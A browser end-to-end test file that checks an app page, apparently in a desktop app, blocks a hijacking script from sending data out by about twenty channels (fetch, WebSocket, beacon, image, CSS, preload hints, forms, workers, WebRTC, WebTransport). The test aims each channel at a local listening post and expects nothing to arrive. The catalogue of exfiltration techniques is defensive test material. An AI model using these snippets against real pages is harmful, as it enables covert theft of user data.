import { setTimeout as pause } from 'node:timers/promises';
import { appState } from '../support/bridge.ts';
import { type ListeningPost, startListeningPost } from '../support/listening-post.ts';
import { expect, test } from '../support/test.ts';

/** Ways in which a script that has taken over the page might send something out. Each is given the address to reach. */
const WAYS: Record<string, (host: string) => unknown> = {
  fetch: (host) => fetch(`http://${host}/fetch`, { mode: 'no-cors' }).catch(() => undefined),
  XMLHttpRequest: (host) => {
    const request = new XMLHttpRequest();
    request.open('GET', `http://${host}/xhr`);
    request.send();
  },
  WebSocket: (host) => new WebSocket(`ws://${host}/socket`) && undefined,
  EventSource: (host) => new EventSource(`http://${host}/events`) && undefined,
  'a beacon': (host) => navigator.sendBeacon(`http://${host}/beacon`, 'secret'),
  'an image': (host) => {
    new Image().src = `http://${host}/image?secret`;
  },
  'a script': (host) => {
    const script = document.createElement('script');
    script.src = `http://${host}/script`;
    document.head.append(script);
  },
  'a style sheet': (host) => {
    const link = Object.assign(document.createElement('link'), {
      rel: 'stylesheet',
      href: `http://${host}/css`,
    });
    document.head.append(link);
  },
  'a font and a background': (host) => {
    document.body.style.backgroundImage = `url(http://${host}/background)`;
    void new FontFace('stolen', `url(http://${host}/font)`).load().catch(() => undefined);
  },
  'a hint': (host) => {
    for (const rel of [
      'preconnect',
      'prefetch',
      'preload',
      'modulepreload',
      'prerender',
      'icon',
      'manifest',
    ]) {
      const link = document.createElement('link');
      Object.assign(link, { rel, href: `http://${host}/${rel}` });
      if (rel === 'preload') link.as = 'image';
      document.head.append(link);
    }
  },
  'speculation rules': (host) => {
    const script = Object.assign(document.createElement('script'), {
      type: 'speculationrules',
      textContent: JSON.stringify({ prefetch: [{ source: 'list', urls: [`http://${host}/speculation`] }] }),
    });
    document.head.append(script);
  },
  media: (host) => {
    const video = Object.assign(document.createElement('video'), { src: `http://${host}/video` });
    document.body.append(video);
  },
  'a frame': (host) => {
    const frame = Object.assign(document.createElement('iframe'), { src: `http://${host}/frame` });
    document.body.append(frame);
  },
  'an object': (host) => {
    const object = Object.assign(document.createElement('object'), { data: `http://${host}/object` });
    document.body.append(object);
  },
  'a form': (host) => {
    const form = Object.assign(document.createElement('form'), {
      action: `http://${host}/form`,
      method: 'post',
    });
    document.body.append(form);
    form.submit();
  },
  'a worker': (host) => {
    const source = `fetch('http://${host}/worker', { mode: 'no-cors' })`;
    try {
      new Worker(URL.createObjectURL(new Blob([source])));
    } catch {
      // Refused at once.
    }
  },
  'an imported module': (host) =>
    import(/* @vite-ignore */ `http://${host}/module.js`).catch(() => undefined),
  'a service worker': () => navigator.serviceWorker?.register('/sw.js').catch(() => undefined),
  'a ping of a link': (host) => {
    const link = Object.assign(document.createElement('a'), { href: '#', ping: `http://${host}/ping` });
    document.body.append(link);
    link.click();
  },
  'a download': (host) => {
    const link = Object.assign(document.createElement('a'), {
      href: `http://${host}/download`,
      download: 'x',
    });
    document.body.append(link);
    link.click();
  },
  'a peer connection': async (host) => {
    try {
      const peer = new RTCPeerConnection({
        iceServers: [
          { urls: `stun:${host}` },
          { urls: `turn:${host}?transport=udp`, username: 'secret', credential: 'x' },
          { urls: `turn:${host}?transport=tcp`, username: 'secret', credential: 'x' },
        ],
      });
      peer.createDataChannel('out');
      await peer.setLocalDescription(await peer.createOffer());
    } catch {
      // Refused at once.
    }
  },
  WebTransport: (host) => {
    try {
      void new WebTransport(`https://${host}/transport`).ready.catch(() => undefined);
    } catch {
      // Refused at once.
    }
  },
};

/** How long something may take to arrive that should never arrive, in ms. */
const PATIENCE = 600;

test.describe('a script that has taken over the page', () => {
  let post: ListeningPost;
  test.beforeEach(async () => {
    post = await startListeningPost();
  });
  test.afterEach(() => post.stop());

  test('reaches nothing on the network, whichever way it tries', async ({ desktop }) => {
    // What is listened to would be heard.
    await fetch(`http://127.0.0.1:${post.port}/control`);
    expect(post.heard).toEqual(['tcp GET /control HTTP/1.1']);

    const alice = await desktop('alice');
    const page = await alice.open();
    await appState(page);
    const leaks: Record<string, string[]> = {};
    for (const [name, way] of Object.entries(WAYS)) {
      const before = post.heard.length;
      await page.evaluate(way as (host: string) => void, `127.0.0.1:${post.port}`).catch(() => undefined);
      await pause(PATIENCE);
      if (post.heard.length > before) leaks[name] = post.heard.slice(before);
    }
    expect(leaks).toEqual({});
    // It is still our page, and still works.
    expect(new URL(page.url()).protocol).toBe('drawbridge-app:');
    expect((await appState(page)).app.platform).toBe('linux');
  });
});
